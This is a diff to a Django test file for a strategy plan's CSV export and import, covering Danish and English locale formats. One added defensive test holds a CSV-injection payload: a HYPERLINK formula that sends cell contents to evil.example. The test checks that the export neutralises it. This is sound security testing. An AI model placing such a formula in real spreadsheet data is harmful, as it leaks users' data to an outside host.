@@ -4,10 +4,11 @@ from datetime import date
 from decimal import Decimal
 
 import pytest
+from django.utils import translation
 
 from apps.strategy.demo import load_plan, load_plan_data
 from apps.strategy.models import FocusArea, Goal, Initiative
-from apps.strategy.plan_csv import COLUMNS, PlanImportError, export_plan, plan_import
+from apps.strategy.plan_csv import COLUMNS, PlanImportError, column_labels, export_plan, plan_import
 from tests.conftest import unit
 from tests.factories import StrategyPlanFactory, add_unit
 
@@ -48,13 +49,16 @@ def test_round_trip_export_then_import_into_an_empty_plan_gives_the_same_content
     goal.indicator_current = Decimal("4.5")
     goal.save()
 
-    text = export_plan(plan)
+    with translation.override("da"):
+        text = export_plan(plan)
+        header = column_labels()
     assert text.startswith("\ufeff")
-    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
-    assert list(rows[0]) == COLUMNS
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
+    assert rows[0] == header and header[0] == "Type"
+    assert "4,5" in next(r for r in rows if r[0] == "goal" and r[COLUMNS.index("indicator_current")])
     empty = StrategyPlanFactory(organization=org, start_year=2024, end_year=2025)
     count = plan_import(plan=empty, text=text)
-    assert count == len(rows) == 6 + 27 + 85
+    assert count == len(rows) - 1 == 6 + 27 + 85
     assert _content(empty) == _content(plan)
 
 
@@ -139,3 +143,29 @@ def test_an_indicator_that_cannot_be_right_is_not_imported(plan):
     assert errors[1].startswith("Row 7: A count or a percentage cannot be below 0.")
     assert len(errors) == 2  # one message, though two values are negative
     assert not FocusArea.objects.filter(plan=plan).exists()
+
+
+def test_a_formula_in_a_title_goes_out_harmless_and_comes_back_unchanged(org):
+    """OWASP CSV injection: a spreadsheet must not run a focus-area title as a formula."""
+    plan = StrategyPlanFactory(organization=org, start_year=2024, end_year=2025)
+    title = '=HYPERLINK("http://evil.example/?"&A1;"Klik")'
+    FocusArea.objects.create(plan=plan, title=title, position=1)
+    with translation.override("da"):
+        text = export_plan(plan)
+    row = next(csv.reader(io.StringIO(text.lstrip("\ufeff").splitlines()[1]), delimiter=";"))
+    assert row[COLUMNS.index("title")] == "'" + title
+    copy = StrategyPlanFactory(organization=org, start_year=2024, end_year=2025)
+    plan_import(plan=copy, text=text)
+    assert copy.focus_areas.get().title == title
+
+
+def test_an_english_export_is_comma_separated_and_imports_too(org):
+    plan = StrategyPlanFactory(organization=org, start_year=2024, end_year=2025)
+    FocusArea.objects.create(plan=plan, title="Members, first", position=1)
+    with translation.override("en"):
+        text = export_plan(plan)
+    assert text.lstrip("\ufeff").startswith("Kind,Reference,")
+    copy = StrategyPlanFactory(organization=org, start_year=2024, end_year=2025)
+    with translation.override("da"):
+        assert plan_import(plan=copy, text=text) == 1
+    assert copy.focus_areas.get().title == "Members, first"
